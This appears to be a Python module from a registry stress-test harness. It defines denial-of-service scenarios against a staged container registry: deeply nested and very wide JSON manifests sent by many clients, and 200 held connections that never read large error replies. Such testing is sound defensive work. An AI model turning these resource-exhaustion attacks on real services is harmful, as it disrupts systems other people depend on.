"""Attacks with manifests that cost a lot to read, and with errors that are long."""

import json
import socket

from client import CONFIG, LAYER, MANIFEST, digest_of

import others
from crowd import Attackers, Sender, crowd, repeat
from stage import MIB

REPOSITORY = "mallory/app"
CLIENTS = 12
SIZE = 4 * MIB - 1024
DEPTH = 60  # the registry refuses a document that is nested deeper than 64 levels
READERLESS = 200


def with_extra(extra):
    """A manifest with an unknown key of this JSON; its blobs are missing, so nothing is stored."""
    shell = json.dumps({"schemaVersion": 2, "mediaType": MANIFEST,
                        "config": {"mediaType": CONFIG, "digest": digest_of(b"missing"), "size": 7},
                        "layers": []})
    return (shell[:-1] + ', "x": ' + extra + "}").encode()


def deep():
    one = "[" * DEPTH + "]" * DEPTH
    return with_extra("[" + ",".join([one] * (SIZE // (len(one) + 1))) + "]")


def wide():
    return with_extra("[" + ",".join("0" * (SIZE // 2)) + "]")


def listing(count):
    layers = [{"mediaType": LAYER, "digest": digest_of(b"%d" % number), "size": 1} for number in range(count)]
    return json.dumps({"schemaVersion": 2, "mediaType": MANIFEST,
                       "config": {"mediaType": CONFIG, "digest": digest_of(b"missing"), "size": 7},
                       "layers": layers}, separators=(",", ":")).encode()


def put(kept, body, number):
    try:
        kept.call("PUT", f"/v2/{REPOSITORY}/manifests/v{number % 10}", 201, body, **{"Content-Type": MANIFEST})
    except others.Refused as refused:
        return refused
    return "201"


def costly(at, make):
    def attack(stage):
        stage.start(at=at)
        body = make()
        assert len(body) < 4 * MIB, len(body)

        def work(part):
            kept = others.Kept(stage.client(source=f"127.66.{part}.1"))
            return repeat(lambda number: put(kept, body, number), 2000)
        stage.run_crowd(Attackers([work(part) for part in range(CLIENTS)]))
    return attack


def refusals(at):
    def attack(stage):
        """Manifests whose thousands of blobs are missing, put by clients that do not read the answer."""
        stage.start(at=at)
        for count in (9_990, 37_400):
            size, listed, status = ask_once(stage, listing(count))
            stage.note(f"answer to {count} missing blobs", {"status": status, "bytes": size, "listed": listed})
            stage.check("answer KiB", size >> 10)
            stage.check("items listed", listed)
        sender = Sender(stage.client())
        body = listing(9_990)

        def enter(number):
            sock = sender.connect(number, receive_buffer=4096)
            sock.sendall(sender.head("PUT", f"/v2/{REPOSITORY}/manifests/v{number}", Content_Type=MANIFEST,
                                     Content_Length=len(body)) + body)
            if not sock.recv(1024).startswith(b"HTTP/1.1 400"):
                sock.close()
                raise AnotherAnswer
            return sock  # the rest of the answer stays at the server
        works = crowd(READERLESS, enter, listen=False, tend=notice_end, every=5)
        stage.run_crowd(Attackers(works, standing=READERLESS, settle_seconds=60))
    return attack


class AnotherAnswer(OSError):
    """The server refused for another reason, for example because too many manifests are in memory."""


def notice_end(sock, _):
    """Reads nothing of TLS, but notices that the server has closed the connection."""
    if not socket.socket.recv(sock, 1, socket.MSG_PEEK):
        raise ConnectionResetError


def ask_once(stage, body):
    answer = stage.client(timeout=60).put_manifest(REPOSITORY, "v1", body)
    try:
        listed = len(answer.json()["errors"])
    except (ValueError, KeyError, TypeError):
        listed = None
    return len(answer.body), listed, answer.status


ATTACKS = {}
for _at in ("store", "node"):
    ATTACKS |= {f"deep-json@{_at}": costly(_at, deep), f"wide-json@{_at}": costly(_at, wide),
                f"refusals@{_at}": refusals(_at)}
